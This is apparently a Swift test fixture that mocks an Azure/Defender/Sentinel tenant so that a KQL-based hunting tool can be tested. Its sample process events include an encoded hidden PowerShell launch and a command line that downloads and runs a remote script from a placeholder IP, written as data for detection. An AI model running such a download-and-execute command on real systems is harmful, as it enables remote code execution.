import Foundation
import JSON
import Synchronization
import Tables

@testable import KQL

/// A tenant on this computer: the login, a workspace and advanced hunting that run the queries they are sent, Defender
/// with its machine, and the analytics rules of Sentinel. It speaks the documented contracts and holds its callers to
/// them: a token of the right service, a time span with each query, the version with each rule.
final class Tenant: Sendable {
    /// What it lets the program do.
    enum Rights: Sendable { case all, noRules }

    static let machine = "0000000000000000000000000000000000000001"
    static let now = "2026-11-21T10:00:00Z"
    /// The settings that lead here; they belong to no one.
    static let subscription = "11111111-2222-3333-4444-555555555555"

    private let server: LocalServer
    private let book: TenantBook

    init(_ rights: Rights = .all) throws {
        let book = TenantBook(rights)
        self.book = book
        server = try LocalServer { request, _ in book.answer(request) }
    }

    var settings: [String: String] {
        let urls = ["AZURE_LOGIN_URL", "LOG_ANALYTICS_URL", "GRAPH_URL", "DEFENDER_URL", "AZURE_MANAGEMENT_URL"]
        return Dictionary(uniqueKeysWithValues: urls.map { ($0, server.origin) }).merging([
            "LOG_ANALYTICS_WORKSPACE_ID": "w-1", "AZURE_TENANT_ID": "t", "AZURE_CLIENT_ID": "c",
            "AZURE_CLIENT_SECRET": "CANARYSECRET", "SUBSCRIPTION_ID": Self.subscription,
            "RESOURCE_GROUP_NAME": "soc", "SENTINEL_WORKSPACE_NAME": "watch",
        ]) { $1 }
    }

    /// What was asked of the services, in order, sign-ins left out: `query`, `GET machines`, `PUT rule`, ….
    var asked: [String] {
        server.requests.filter { !$0.target.contains("/oauth2/") }.map { request in
            let method = request.head.prefix { $0 != " " }
            let path = request.target.prefix { $0 != "?" }.split(separator: "/")
            if path.last == "query" || path.last == "runHuntingQuery" { return "query" }
            if path.contains("alertRules") { return "\(method) rule" }
            if path.contains("machineactions") { return "\(method) action" }
            return "\(method) \(path.last ?? "")"
        }
    }

    /// What it was asked for and refused, as it should never be.
    var faults: [String] { book.state.withLock { $0.faults } }

    /// The rules that are stored, by id.
    var rules: [String: JSONValue] { book.state.withLock { $0.rules } }

    /// Lets a query that waits be answered; one is let through for each call.
    func letQueryThrough() { book.gate.signal() }
}

/// What the tenant knows and did.
final class TenantBook: Sendable {
    struct State {
        var rules: [String: JSONValue] = [:]
        var looks = 0
        var faults: [String] = []
    }

    let rights: Tenant.Rights
    let state = Mutex(State())
    /// Queries wait here until the test has seen that they are waited for.
    let gate = DispatchSemaphore(value: 0)

    init(_ rights: Tenant.Rights) { self.rights = rights }

    func answer(_ request: LocalServer.Request) -> String {
        let path = request.target.prefix { $0 != "?" }.split(separator: "/").map(String.init)
        if path.contains("oauth2") { return Self.token(request.body) }
        guard let service = service(path), request.head.contains("Authorization: Bearer token-of-\(service)") else {
            return refuse("no token for \(request.target)", 401)
        }
        let body = (try? JSONValue(parsing: request.body)) ?? .null
        let method = String(request.head.prefix { $0 != " " })
        return switch service {
        case "loganalytics": query(body["query"], body["timespan"], asGraph: false)
        case "graph": query(body["Query"], body["Timespan"], asGraph: true)
        case "defender": defender(method, path, body)
        default: rule(method, path, request.target, body)
        }
    }

    /// The service that a path belongs to, each of which has tokens of its own.
    private func service(_ path: [String]) -> String? {
        switch path.first {
        case "v1" where path.last == "query": "loganalytics"
        case "v1.0" where path.last == "runHuntingQuery": "graph"
        case "api": "defender"
        case "subscriptions": "management"
        default: nil
        }
    }

    private static func token(_ form: String) -> String {
        let services = [
            "loganalytics": "api.loganalytics", "graph": "graph.microsoft", "defender": "securitycenter",
            "management": "management.azure",
        ]
        let service = services.first { form.contains($0.value) }?.key ?? "nothing"
        return say(200, ["token_type": "Bearer", "expires_in": 3600, "access_token": .string("token-of-\(service)")])
    }

    private func refuse(_ fault: String, _ status: Int) -> String {
        state.withLock { $0.faults.append(fault) }
        return Self.say(status, ["error": ["code": "BadRequest", "message": .string(fault)]])
    }

    static func say(_ status: Int, _ body: JSONValue) -> String {
        let text = body.text
        return "HTTP/1.1 \(status) x\r\nContent-Type: application/json\r\nContent-Length: \(text.utf8.count)\r\n"
            + "Connection: close\r\n\r\n\(text)"
    }
}

// MARK: Queries

extension TenantBook {
    private static let rows: [JSONValue] = [
        process("09:05", "powershell.exe", "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "winword.exe"),
        process(
            "09:12", "powershell.exe",
            "powershell.exe -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
            "explorer.exe"),
        process("09:20", "powershell.exe", "powershell.exe Get-ChildItem C:\\Users", "explorer.exe"),
        process("09:25", "notepad.exe", "notepad.exe notes.txt", "explorer.exe"),
        process("04:00", "powershell.exe", "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "explorer.exe"),
        process("09:30", "powershell.exe", "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "explorer.exe", on: "ws2"),
    ]

    private static func process(
        _ time: String, _ file: String, _ command: String, _ parent: String, on host: String = "ws1"
    ) -> JSONValue {
        let at = JSONValue.string("2026-11-21T\(time):00Z")
        return [
            "TimeGenerated": at, "Timestamp": at, "DeviceName": .string("\(host).example.com"), "AccountName": "ann",
            "FileName": .string(file), "ProcessCommandLine": .string(command),
            "InitiatingProcessFileName": .string(parent), "ActionType": "ProcessCreated", "ReportId": 7,
        ]
    }

    private func query(_ query: JSONValue?, _ timespan: JSONValue?, asGraph: Bool) -> String {
        guard let text = query?.string, let span = timespan?.string, let window = Self.window(span) else {
            return refuse("a query without a time span", 400)
        }
        guard let empty = LocalTable(known: "DeviceProcessEvents", isInWorkspace: !asGraph),
            let now = Timestamp(Tenant.now)
        else { return refuse("no table", 500) }
        let table = LocalTable(name: empty.name, columns: empty.schema.columns, records: Self.rows)
        let engine = QueryEngine(tables: [table], now: now)
        do throws(KQLFault) {
            let result = try engine.run(text, limits: QueryLimits(rows: 1000, time: .seconds(60), window: window))
            gate.wait()
            return Self.say(200, asGraph ? Self.graph(result) : Self.workspace(result))
        } catch {
            return refuse("\(error.code): \(error.message) in \(text)", 400)
        }
    }

    private static func window(_ span: String) -> ClosedRange<Timestamp>? {
        let ends = span.split(separator: "/").compactMap { Timestamp(String($0)) }
        return ends.count == 2 && ends[0] <= ends[1] ? ends[0]...ends[1] : nil
    }

    private static func workspace(_ result: QueryResult) -> JSONValue {
        let columns = result.columns.map { column -> JSONValue in
            ["name": .string(column.name), "type": .string(column.type)]
        }
        let rows = (0..<result.count).map { row in
            JSONValue.array(result.columns.indices.map { result.json(row: row, column: $0) })
        }
        return ["tables": [["name": "PrimaryResult", "columns": .array(columns), "rows": .array(rows)]]]
    }

    private static func graph(_ result: QueryResult) -> JSONValue {
        let schema = result.columns.map { column -> JSONValue in
            ["name": .string(column.name), "type": .string(column.type.capitalized)]
        }
        let rows = (0..<result.count).map { row in
            JSONValue.object(result.columns.indices.map {
                JSONValue.Member(result.columns[$0].name, result.json(row: row, column: $0))
            })
        }
        return ["schema": .array(schema), "results": .array(rows)]
    }
}

// MARK: Machines and rules

extension TenantBook {
    private func defender(_ method: String, _ path: [String], _ body: JSONValue) -> String {
        let action: (String, String) -> JSONValue = { type, status in
            [
                "id": "a-1", "type": .string(type), "status": .string(status), "machineId": .string(Tenant.machine),
                "requestor": "app",
            ]
        }
        if method == "POST" {
            guard body["Comment"]?.string?.isEmpty == false else { return refuse("an action without a reason", 400) }
            return Self.say(201, action(path.last == "isolate" ? "Isolate" : "RunAntiVirusScan", "Succeeded"))
        }
        if path.contains("machineactions") { return Self.say(200, action("Isolate", "Succeeded")) }
        let machine: JSONValue = [
            "id": .string(Tenant.machine), "computerDnsName": "ws1.example.com", "osPlatform": "Windows11",
            "healthStatus": "Active", "lastSeen": "2026-11-21T09:55:00Z",
        ]
        return Self.say(200, ["value": [machine]])
    }

    private func rule(_ method: String, _ path: [String], _ target: String, _ body: JSONValue) -> String {
        guard target.hasSuffix("?api-version=2025-09-01"), path.contains("alertRules"), let id = path.last else {
            return refuse("no rule, or not its version: \(target)", 400)
        }
        let stored = state.withLock { $0.rules[id] }
        if method == "GET" {
            return stored.map { Self.say(200, $0) }
                ?? Self.say(404, ["error": ["code": "NotFound", "message": "no rule"]])
        }
        guard rights == .all else {
            return Self.say(403, ["error": ["code": "AuthorizationFailed", "message": "no alertRules/write"]])
        }
        guard body["kind"] == "Scheduled", stored == nil || body["etag"] == stored?["etag"] else {
            return refuse("a rule of no kind, or not over the stored one", 409)
        }
        let kept = body.setting("name", to: .string(id)).setting("etag", to: "\"e1\"")
        state.withLock { $0.rules[id] = kept }
        return Self.say(stored == nil ? 201 : 200, kept)
    }
}
